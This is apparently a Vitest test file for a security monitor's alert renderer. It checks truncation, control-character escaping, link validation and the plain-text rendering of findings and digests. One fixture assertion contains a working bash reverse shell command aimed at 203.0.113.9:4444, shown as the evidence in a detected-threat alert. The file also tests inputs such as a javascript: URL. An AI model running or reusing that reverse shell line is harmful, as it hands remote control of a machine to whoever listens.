import { describe, expect, it } from 'vitest';
import { FIELD_CAPS, findingLink, renderPlainText, safeLine, truncate, viewFinding, viewMessage } from '../../../src/cp/notify/render-message.js';
import { digestMessage, finding, findingMessage } from './notify-fixtures.js';

describe('truncate', () => {
  it.each([
    ['short', 10, 'short'],
    ['abcdefghij', 10, 'abcdefghij'],
    ['abcdefghijk', 10, 'abcdefghi…'],
    ['ab😀cd', 4, 'ab…'], // the emoji's surrogate pair is not split
  ])('%j to %i', (text, max, want) => {
    expect(truncate(text, max)).toBe(want);
    expect(truncate(text, max).length).toBeLessThanOrEqual(max);
  });
});

describe('safeLine', () => {
  it('shows control, bidi and line-break characters as escapes or spaces, on one line', () => {
    expect(safeLine('evil\x1b[31m\u202ehost\r\nnext\u2028x', 100)).toBe('evil\\x1b[31m\\u202ehost next\\u2028x');
  });
});

describe('findingLink', () => {
  it.each([
    ['https://cp.example:8443', 'https://cp.example:8443/v1/findings/7'],
    ['https://cp.example:8443/', 'https://cp.example:8443/v1/findings/7'],
    ['https://cp.example/base|x>', 'https://cp.example/base%7Cx%3E/v1/findings/7'],
    ['javascript:alert(1)', undefined],
    ['not a url', undefined],
    [undefined, undefined],
  ])('%s', (cpUrl, want) => {
    expect(findingLink(cpUrl, 7)).toBe(want);
  });
});

describe('viewFinding', () => {
  it('keeps the first evidence lines and says it cut them', () => {
    const v = viewFinding(finding({ evidence: Array.from({ length: 50 }, (_, i) => `line ${i}\x07`) }));
    expect(v.evidence.split('\n')).toHaveLength(FIELD_CAPS.evidenceLines);
    expect(v.evidence).toContain('line 0\\x07');
    expect(v.evidenceCut).toBe(true);
  });

  it('caps every host field', () => {
    const long = 'x'.repeat(10_000);
    const v = viewFinding(finding({ host: long, agent: long, resource: long, evidence: [long], recommended_action: long }));
    expect(v.host.length).toBe(FIELD_CAPS.host);
    expect(v.agent.length).toBe(FIELD_CAPS.agent);
    expect(v.resource.length).toBe(FIELD_CAPS.resource);
    expect(v.evidence.length).toBe(FIELD_CAPS.evidenceChars);
    expect(v.recommendedAction?.length).toBe(FIELD_CAPS.action);
  });
});

describe('viewMessage and renderPlainText', () => {
  it('a finding: headline, fields, evidence and link', () => {
    const view = viewMessage(findingMessage());
    expect(view.headline).toBe('HIGH Reverse shell to 203.0.113.9 — web-1');
    const text = renderPlainText(view);
    expect(text).toContain('host: web-1   agent: proc-watch   category: process');
    expect(text).toContain('  bash -i >& /dev/tcp/203.0.113.9/4444 0>&1');
    expect(text).toContain('recommended action:\n  Kill the process');
    expect(text).toContain('finding 42 · run r-7 · https://cp.example:8443/v1/findings/42');
    expect(text).toContain('channel ops · delivery d-1');
  });

  it('a digest: groups counted by severity, the highest, and the total beyond the list', () => {
    const view = viewMessage(digestMessage(7, 30));
    expect(view.headline).toBe('Digest: 30 findings in 7 groups');
    expect(view.highest).toBe('CRITICAL');
    expect(view.bySeverity).toEqual([
      { severity: 'CRITICAL', groups: 2 },
      { severity: 'HIGH', groups: 2 },
      { severity: 'MEDIUM', groups: 1 },
      { severity: 'LOW', groups: 1 },
      { severity: 'INFO', groups: 1 },
    ]);
    const text = renderPlainText(view);
    expect(text).toContain('CRITICAL 2 · HIGH 2 · MEDIUM 1 · LOW 1 · INFO 1');
    expect(text).toContain('- HIGH  Group 2 — host-2 (proc-watch) · finding 2 https://cp.example:8443/v1/findings/2');
    expect(text).toContain('30 findings in all');
  });
});
